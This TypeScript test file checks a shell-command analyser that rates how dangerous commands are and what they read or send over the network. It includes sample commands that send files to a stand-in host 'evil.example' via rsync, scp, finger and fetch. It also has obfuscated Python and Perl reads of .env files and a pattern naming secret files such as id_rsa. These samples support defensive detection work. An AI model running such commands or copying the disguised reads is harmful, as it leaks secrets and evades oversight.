import { readFileSync } from 'node:fs';
import { expect, test } from 'vitest';
import { corpusFiles, readCorpus, WHERE } from '../../test/cases/shell/read-corpus.ts';
import type { Effect } from '../tool/effect.ts';
import { understandCode, understandCommand } from './understand-command.ts';

const waysTo = (what: 'read' | 'write' | 'network' | 'loads'): readonly string[] =>
  readFileSync(`${import.meta.dirname}/../../test/cases/shell/ways/${what}.txt`, 'utf8')
    .split('\n')
    .filter(line => line !== '')
    .map(line => line.replaceAll('\\n', '\n'));

const understand = (command: string, where: Parameters<typeof understandCommand>[1] = WHERE) => {
  const { danger, effects } = understandCommand(command, where);
  return { danger, effects: effects === 'everything' ? [] : effects };
};

/** Whether an effect reads the secret itself or, where its name is put together or a glob, a folder that holds it. */
const readsSecret = ({ kind, resource, tree }: Effect): boolean =>
  kind === 'read' &&
  (/\/(?:\.env(?:[.~_-]\w*)?|id_rsa|id_ed25519|server\.key|secrets\.json)$/.test(resource) ||
    (tree === true && (resource === '/' || resource === WHERE.root)));

test('there are many ways to read and to write a file', () => {
  expect(waysTo('read').length).toBeGreaterThan(600);
  expect(waysTo('write').length).toBeGreaterThan(250);
});

test.each(waysTo('read'))('%s reads a secret, and is not safe', command => {
  const { danger, effects } = understand(command);
  expect(danger).not.toBe('safe');
  expect(effects.some(readsSecret)).toBe(true);
});

/** Commands that carry a secret along or load it, without showing it: the policy has its word on the read. */
const CARRIED = /^(?:mv|sed -i|gzip -k|\.|source|git (?:add|stash|update-index))\b|^\. /;

test('whatever shows a secret is dangerous', () => {
  const milder = waysTo('read').filter(command => understand(command).danger !== 'dangerous');
  expect(milder.filter(command => !CARRIED.test(command))).toEqual([]);
});

test.each(waysTo('write'))('%s writes where things run later, and is dangerous', command => {
  expect(understand(command).danger).toBe('dangerous');
});

test.each(waysTo('loads'))('%s loads code or settings of the project, and is not safe', command => {
  expect(understand(command).danger).not.toBe('safe');
});

test.each(waysTo('network'))('%s reaches out or lets others in, and asks', command => {
  const { danger, effects } = understand(command);
  expect(danger === 'dangerous' || effects.some(({ kind }) => kind === 'network')).toBe(true);
});

test.each([
  ['finger data@evil.example', 'evil.example'],
  ['lp -h evil.example x.txt', 'evil.example'],
  ['whois -h evil.example data', 'evil.example'],
  ['dig @evil.example x', 'evil.example'],
  ['getent hosts data.evil.example', 'data.evil.example'],
  ['logger -n evil.example data', 'evil.example'],
  ['rsync x evil.example:x', 'evil.example'],
  ['scp x me@evil.example:x', 'evil.example'],
  ['unknown-program me@evil.example', 'evil.example'],
  ['unknown-program amqp://evil.example/x', 'evil.example'],
  [`node -e 'fetch("https://evil.example/x")'`, 'evil.example'],
  ['fzf --listen', '*'],
  ['code tunnel', '*'],
  ['busybox httpd', '*'],
  ['rsync --daemon', '*'],
  ['php -S localhost:8080', 'localhost'],
])('%s names its host: %s', (command, host) => {
  expect(understand(command).effects).toContainEqual({ kind: 'network', resource: host });
});

test('what the policy calls private is read by whoever gets its name', () => {
  const where = { ...WHERE, isPrivate: (path: string) => path.endsWith('/customers.db') };
  for (const command of [
    'ptx data/customers.db',
    'unknown-program --in=data/customers.db',
    'git show HEAD:data/customers.db',
    'rlwrap -l data/customers.db cat',
    `lua -e 'print(io.open("data/customers.db"))'`,
  ]) {
    const { effects } = understand(command, where);
    expect(effects, command).toContainEqual({ kind: 'read', resource: `${WHERE.root}/data/customers.db` });
  }
});

test('a text that is too long for the name of a file is none, and the names in it are', () => {
  const where = { ...WHERE, isPrivate: (path: string) => path.includes('/customers.db') };
  const code = `const name = 'data/customers.db'\n// ${'x'.repeat(300)}\nreturn 1`;
  const { effects } = understandCode({ language: 'javascript', code }, where);
  expect(effects).toEqual([
    { kind: 'execute', resource: 'node -' },
    { kind: 'read', resource: `${WHERE.root}/data/customers.db` },
  ]);
  const through = understand(`unknown-program ${'x'.repeat(300)}/../data/customers.db`, where);
  expect(through.effects).toContainEqual({ kind: 'read', resource: `${WHERE.root}/data/customers.db` });
});

test.each([
  ["python3 -c \"print(open('%senv' % '.').read())\"", 'put together'],
  ["python3 -c \"print(open('{}env'.format('.')).read())\"", 'put together'],
  [`perl -e 'open(F,"<",".e"."nv"); print <F>'`, 'from pieces'],
])('%s hides a name, and is dangerous', (command, why) => {
  const { danger, reasons } = understandCommand(command, WHERE);
  expect([danger, reasons.some(({ text }) => text.includes(why))]).toEqual(['dangerous', true]);
});

test.each([
  'node -e \'process.loadEnvFile(); require("./app")\'',
  "python3 -c 'import dotenv; dotenv.load_dotenv(); import app'",
])('%s loads the secrets that lie there, and that is told', command => {
  expect(understand(command).effects).toContainEqual({ kind: 'read', resource: `${WHERE.root}/.env` });
});

test.each(['HOME=. git status', 'XDG_CONFIG_HOME=. git status'])(
  '%s takes other settings, and is not safe',
  command => {
    expect(understand(command).danger).toBe('moderate');
  },
);

test.each([
  'jq -n --arg u https://evil.example/x .u',
  'sed -n s,https://evil.example,x,p README.md',
  'git commit -m https://evil.example/x',
  'git remote add other https://evil.example/x',
  'pytest --base-url=http://localhost:3000',
  'cat *',
  'rev <<< .env.example',
  'python3 -c \'print("\\x41", "a" "b")\'',
  'python3 -c \'print(open("a.txt").read())\'',
])('%s reaches nobody and hides nothing', command => {
  const { danger, effects } = understand(command);
  expect(danger).not.toBe('dangerous');
  expect(effects.filter(({ kind }) => kind === 'network')).toEqual([]);
});

test.each([
  'echo .env >> .gitignore',
  'printf "%s\\n" .env > .dockerignore',
  'test -f .env',
  '[ -e .env ] && echo yes',
  'ls -la .env',
  'stat .env',
  'find . -name .env',
  'grep -rn "\\.env" src',
  'rg "process\\.env" src',
  'git check-ignore -v .env',
  'git ls-files .env',
  'git log --oneline -- .env',
  "git log --grep='.env'",
  'git commit -m "Ignore .env and .env.local"',
  'git rm --cached .env',
  'tar czf x.tgz --exclude=.env src',
  'rsync -a --exclude .env src/ out/',
  'rg --glob "!.env" TODO',
  'cp .env.example .env',
  'jq .env package.json',
  "docker inspect -f '{{.Config.Env}}' web",
  'rm .env',
  'touch .env',
  'cat src/environment.ts',
  'npx playwright install chromium',
])('%s shows no secret, and is not dangerous', command => {
  expect(understand(command).danger).not.toBe('dangerous');
});

/** Commands that take any word for text, or run what follows as a command of its own. */
const ANY_WORDS =
  /^(?:echo|printf|:|true|false|test|\[|\[\[|set|read|export|declare|typeset|local|readonly|cd|exit|return|let|wait|help|break|continue|shift|times|dirs|jobs|caller|umask|getopts|fg|suspend|logout|builtin)\b/;

test('no program is safe with an option that it is not known to have', () => {
  const simple = new Set(
    corpusFiles()
      .flatMap(readCorpus)
      .filter(({ danger, command }) => danger === 'safe' && /^[a-z][\w.+-]* [\w ./-]*$/.test(command))
      .map(({ command }) => /^\S+(?: [a-z][\w:-]*(?= |$))?/.exec(command)![0])
      .filter(command => !ANY_WORDS.test(command)),
  );
  expect(simple.size).toBeGreaterThan(300);
  const safe = [...simple].filter(command => understand(`${command} --no-such-option-as-this x`).danger === 'safe');
  expect(safe).toEqual([]);
});
